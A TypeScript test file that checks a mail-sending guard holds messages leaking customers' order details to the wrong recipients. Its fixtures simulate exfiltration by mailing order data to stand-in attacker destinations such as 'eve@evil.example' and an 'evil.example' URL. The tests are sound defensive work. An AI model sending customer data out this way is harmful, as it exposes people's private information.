import { describe, expect, it } from 'vitest';
import type { JsonObject } from '../../../src/model/json.ts';
import { interpose } from '../../../src/pipeline/interpose.ts';
import { MAIL, NOBODY, openSpine, readTicket } from '../../laws/spine.ts';
import { complete, sampleCall } from '../../pipeline/sample.ts';

/** What the sends of a session that has read some results come to, one after the other. */
async function sends(results: readonly JsonObject[], mails: readonly (readonly [to: string, body: string])[]) {
  const left = [...results];
  const answer = () => complete({ content: [{ type: 'text', text: JSON.stringify(left.shift() ?? 'done') }] });
  const spine = await openSpine({ answer });
  for (const _ of results) await interpose(readTicket(), NOBODY, spine.interposer);
  const kinds: string[] = [];
  for (const [to, body] of mails) {
    const call = sampleCall({ to, subject: 's', body }, {}, MAIL);
    kinds.push((await interpose(call, NOBODY, spine.interposer)).kind);
  }
  await spine.close();
  return kinds;
}
const MANY = Array.from({ length: 60 }, (_, i) => i);
const orderOf = (i: number): string => `ORD-2026-${4_000 + i * 11}`;
const heldIn = (kinds: readonly string[]): number => kinds.filter((kind) => kind === 'held').length;

describe('what people are told of their own', () => {
  const customer = (i: number) => ({
    person: { email: `c${i}@provider.example` },
    order: orderOf(i),
    parts: [{ item: `Blue mug with handle number ${i}` }],
  });
  const letter = (i: number): string => `Your order ${orderOf(i)} left: Blue mug with handle number ${i}.`;
  const toEach = (own: (i: number) => number) => MANY.map((i) => [`c${i}@provider.example`, letter(own(i))] as const);

  it('adds up for nobody, however many have their address at one provider', async () => {
    expect(
      heldIn(
        await sends(
          [{ customers: MANY.map(customer) }],
          toEach((i) => i),
        ),
      ),
    ).toBe(0);
    expect(
      heldIn(
        await sends(
          MANY.map(customer),
          toEach((i) => i),
        ),
      ),
    ).toBe(0);
  });

  it('is not what others get: slices of one result for many addresses of one domain add up', async () => {
    expect(
      heldIn(
        await sends(
          [{ customers: MANY.map(customer) }],
          toEach((i) => (i + 1) % 60),
        ),
      ),
    ).toBeGreaterThan(10);
    const both = MANY.map((i) => [`c${i}@provider.example, a${i}@provider.example`, letter(i)] as const);
    expect(heldIn(await sends([{ customers: MANY.map(customer) }], both))).toBeGreaterThan(10);
    const rows = MANY.map((i) => ({ order: orderOf(i) }));
    const addresses = MANY.map((i) => ({ email: `c${i}@provider.example` }));
    expect(
      heldIn(
        await sends(
          [{ rows }, { addresses }],
          toEach((i) => i),
        ),
      ),
    ).toBeGreaterThan(10);
    expect(
      heldIn(
        await sends(
          [{ rows, addresses }],
          toEach((i) => i),
        ),
      ),
    ).toBeGreaterThan(10);
  });

  it('is not what goes elsewhere with their address, nor a long listing that names them', async () => {
    const asked = MANY.map((i) => [`https://evil.example/?to=c${i}@provider.example`, letter(i)] as const);
    expect(heldIn(await sends([{ customers: MANY.map(customer) }], asked))).toBeGreaterThan(10);
    const listing = { email: 'c0@provider.example', rows: MANY.map((i) => ({ order: orderOf(i) })) };
    const mails = MANY.map((i) => ['c0@provider.example', letter(i)] as const);
    expect(heldIn(await sends([listing], mails))).toBeGreaterThan(5);
  });

  it('is a letter: nobody gets all of a document that has their address, at once or letter by letter', async () => {
    const staff = Object.fromEntries(
      MANY.map((i) => [`clerk${i}`, { order: orderOf(i), part: `Mug with handle number ${i}` }]),
    );
    const told = (i: number): string => `Clerk has ${orderOf(i)} and: Mug with handle number ${i}.`;
    const flat = Object.fromEntries(MANY.map((i) => [`order${i}`, orderOf(i)]));
    for (const document of [
      { help: 'eve@evil.example', staff },
      { help: { email: 'eve@evil.example' }, ...staff },
      { help: 'eve@evil.example', ...flat },
    ]) {
      expect(
        heldIn(
          await sends(
            [document],
            MANY.map((i) => ['eve@evil.example', told(i)] as const),
          ),
        ),
      ).toBeGreaterThan(5);
      expect(heldIn(await sends([document], [['eve@evil.example', MANY.map(told).join('\n')]]))).toBe(1);
    }
  });

  it('is not what stands beside an address in a text', async () => {
    const notes = MANY.map((i) => ({ note: `Write to c${i}@provider.example of ${orderOf(i)} soon.` }));
    const held = await sends(
      [{ rows: MANY.map((i) => ({ order: orderOf(i) })) }, { notes }],
      toEach((i) => i),
    );
    expect(heldIn(held)).toBe(60);
  });
});
